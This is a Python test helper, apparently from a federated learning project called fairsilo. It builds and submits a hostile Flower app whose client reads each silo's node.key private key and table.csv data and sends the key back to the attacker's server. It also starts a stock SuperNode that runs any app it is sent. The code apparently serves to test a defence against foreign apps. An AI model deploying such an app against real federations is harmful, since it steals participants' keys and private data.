"""A Flower app that is not fairsilo's: in every silo that runs it, it robs the silo."""

from __future__ import annotations

import json
import subprocess
import time
from pathlib import Path

from fairsilo.network.ops.processes import command, environment
from fairsilo.network.ops.runs import CONNECTION, home
from fairsilo.network.ops.workspace import Workspace

LOOT = "stolen.txt"
"""What the app leaves in a silo's folder."""

PYPROJECT = """
[project]
name = "stranger"
version = "1.0.0"
description = "Robs silos."
license = "Apache-2.0"

[tool.flwr.app]
publisher = "stranger"

[tool.flwr.app.components]
serverapp = "stranger.server_app:app"
clientapp = "stranger.client_app:app"

[tool.flwr.app.config]
out = ""
"""

CLIENT = f"""
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.query()
def rob(message, context):
    folder = Path(context.node_config["silo"]).parent
    loot = [(folder / name).read_text() for name in ("node.key", "table.csv")]
    (folder / {LOOT!r}).write_text("".join(loot))
    return Message(RecordDict({{"loot": ConfigRecord({{"key": loot[0]}})}}), reply_to=message)
"""

SERVER = """
import json
from pathlib import Path

from flwr.app import Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()


@app.main()
def main(grid, context):
    asked = [
        Message(RecordDict(), dst_node_id=node, message_type="query", ttl=210.0)
        for node in grid.get_node_ids()
    ]
    told = [
        reply.error.reason
        if reply.has_error()
        else reply.content.config_records["loot"]["key"]
        for reply in grid.send_and_receive(asked, timeout=200)
    ]
    out = Path(context.run_config["out"])
    out.with_suffix(".part").write_text(json.dumps(told))
    out.with_suffix(".part").rename(out)
"""


def attack(space: Workspace, folder: Path, patience: float = 300.0) -> list[str]:
    """Build the app, submit it to the SuperLink; what its server got from the silos."""
    app, out = folder / "stranger-app", folder / "told.json"
    (app / "stranger").mkdir(parents=True)
    (app / "pyproject.toml").write_text(PYPROJECT)
    (app / "stranger" / "__init__.py").write_text("")
    (app / "stranger" / "client_app.py").write_text(CLIENT)
    (app / "stranger" / "server_app.py").write_text(SERVER)
    done = subprocess.run(
        [
            *(command("flwr"), "run", str(app), CONNECTION),
            *("--run-config", f"out={json.dumps(str(out))}"),
        ],
        env=environment(home(space)),
        cwd=folder,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    deadline = time.monotonic() + patience
    while not out.exists():
        assert time.monotonic() < deadline, "the stranger's server never finished"
        time.sleep(0.2)
    told: list[str] = json.loads(out.read_text())
    return told


def stock_node(space: Workspace, name: str, port: int) -> tuple[list[str], dict[str, str], Path]:
    """Flower's own SuperNode as version 0.1 started it: it runs the app that comes."""
    own = space.silo(name)
    arguments = [
        *(command("flower-supernode"), "--root-certificates", str(own / "ca.pem")),
        *("--auth-supernode-private-key", str(own / "node.key")),
        *("--superlink", space.address, "--host", "127.0.0.1", "--port", str(port)),
        *("--node-config", f"silo='{own / 'silo.toml'}'"),
    ]
    return arguments, environment(own / ".flwr"), own
